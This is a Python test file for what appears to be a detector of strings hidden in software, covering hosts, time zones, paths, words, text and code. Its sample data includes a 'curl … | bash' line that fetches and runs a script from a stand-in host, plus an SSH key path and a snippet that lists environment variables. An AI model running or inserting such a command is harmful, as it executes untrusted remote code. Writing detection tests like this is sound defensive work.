"""What a value says: hosts, zones, paths, words, code, text, or nothing."""

import math
import pydoc_data.topics
import re
from collections import Counter
from itertools import pairwise

import pytest

from clearance.model.contents import Hiding
from clearance.observe.static.hidden_strings.batches import bits_a_byte
from clearance.observe.static.hidden_strings.hosts import is_certain_host, is_host
from clearance.observe.static.hidden_strings.letters import letter_bits
from clearance.observe.static.hidden_strings.reading import read
from clearance.observe.static.hidden_strings.zones import is_zone


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("kovas.com,lorten.org,marpen.io", Hiding.HOSTS),
        ("*.kovas.com\n.lorten.org\nhttps://marpen.io:8443/v1?x=1", Hiding.HOSTS),
        ("10.1.2.3 192.168.7.1 172.16.0.9 kovas.com lorten.org", Hiding.HOSTS),
        ('["kovas.com","lorten.org","marpen.io"]', Hiding.HOSTS),
        ('{"deny":["kovas.com","lorten.org"],"also":["marpen.io"]}', Hiding.HOSTS),
        ("https://kovas.com/collect?id=", Hiding.HOSTS),
        ("xn--80aswg.xn--p1ai,kovas.com,lorten.org", Hiding.HOSTS),
        ("Asia/Tokyo,Europe/Paris", Hiding.TIME_ZONES),
        ("america/argentina/salta;asia/tokyo;japan", Hiding.TIME_ZONES),
        ("/etc/lark.conf,~/.ssh/wren_key", Hiding.PATHS),
        ("C:\\Users\\wren\\lark.txt;%APPDATA%\\finch\\db", Hiding.PATHS),
        ("amber,birch,cedar,dune", Hiding.WORDS),
        ("春天,夏天,秋天,冬天", Hiding.WORDS),
        ("the lamp stood on the table and nobody touched it", Hiding.TEXT),
        ("лампа стояла на столе, и никто её не трогал", Hiding.TEXT),
        ("const x=require('fs');if(x){return x.readFileSync(y)}", Hiding.CODE),
        ("import os\nfor k in os.environ:\n    print(k)\n", Hiding.CODE),
        ("curl -s http://kovas.example/x | bash && echo done", Hiding.CODE),
        ('{"name":"lamp","size":3,"on":true}', Hiding.CODE),
    ],
)
def test_a_value_is_read_for_what_it_is(text: str, kind: Hiding) -> None:
    reading = read(text.encode())
    assert reading is not None
    assert reading.kind is kind
    assert 0 < reading.score <= 1


@pytest.mark.parametrize(
    "data",
    [
        b"kasfj&#q2 wkqer@!#d~~{]",
        b"fggrqggi.ommlqjmv.oklkocz.zcoklko",
        b"\x01\x02lamp on the table\x03",
        b"\xff\xfe\xfd\xfc\xfb\xfa\xf9",
        b"Zm9vYmFyYmF6cXV4ZWRxdXV4",
        "ꃂꃉꃧꃵꃴꃲ㼌䢰踍".encode(),
        b"",
    ],
)
def test_what_nobody_wrote_is_nothing(data: bytes) -> None:
    assert read(data) is None


def test_file_names_and_versions_are_no_list_of_hosts() -> None:
    for text in ("index.py, main.py, readme.md, run.sh", "1.2.3, 4.5.6, 7.8.9", "this.name, item.id, node.info"):
        reading = read(text.encode())
        assert reading is None or reading.kind is not Hiding.HOSTS


def test_hosts_and_zones_are_told_by_their_form() -> None:
    assert all(map(is_host, ("kovas.com", "a.b.kovas.co.uk", "*.kovas.io", "wss://kovas.net:1/x", "127.0.0.1:80")))
    assert not any(map(is_host, ("kovas", "kovas.qqq", "ko vas.com", "-kovas-.com-", "300.1.1.1", "kOvAs.cOm")))
    assert not is_certain_host("main.py")
    assert is_certain_host("https://main.py/x")
    assert all(map(is_zone, ("Asia/Ho_Chi_Minh", "America/North_Dakota/Beulah", "Etc/GMT+8", "US/East-Indiana")))
    assert not any(map(is_zone, ("Asia", "text/html", "src/main", "Asia/", "Etc/GMTsplit")))


def test_text_is_likelier_than_codings_and_codings_than_chance() -> None:
    text = b"The lamp stood on the table and nobody had touched it since the morning"
    coded = b"VGhlIGxhbXAgc3Rvb2Qgb24gdGhlIHRhYmxlIGFuZCBub2JvZHkgaGFkIHRvdWNoZWQ="
    chance = bytes((at * 97 + 31) % 251 for at in range(70))
    assert bits_a_byte(text) < 4.6 < 6.4 < bits_a_byte(coded) < 9 < bits_a_byte(chance)


def test_the_table_of_letters_agrees_with_english() -> None:
    """Derived anew from Python's documentation: the pairs that are common there are cheap in the table."""
    words = re.findall(r"[a-z]+", " ".join(pydoc_data.topics.topics.values()).lower())
    pairs = Counter(pair for word in words for pair in pairwise(word))
    before = Counter(first for word in words for first in word[:-1])
    wanted, have = [], []
    for (first, second), many in pairs.items():
        wanted.append(-math.log2(many / before[first]))
        have.append(float(letter_bits()[ord(first) - 97, ord(second) - 97]))
    mean_wanted, mean_have = sum(wanted) / len(wanted), sum(have) / len(have)
    together = sum((w - mean_wanted) * (h - mean_have) for w, h in zip(wanted, have, strict=True))
    spread = math.sqrt(sum((w - mean_wanted) ** 2 for w in wanted) * sum((h - mean_have) ** 2 for h in have))
    assert together / spread > 0.75
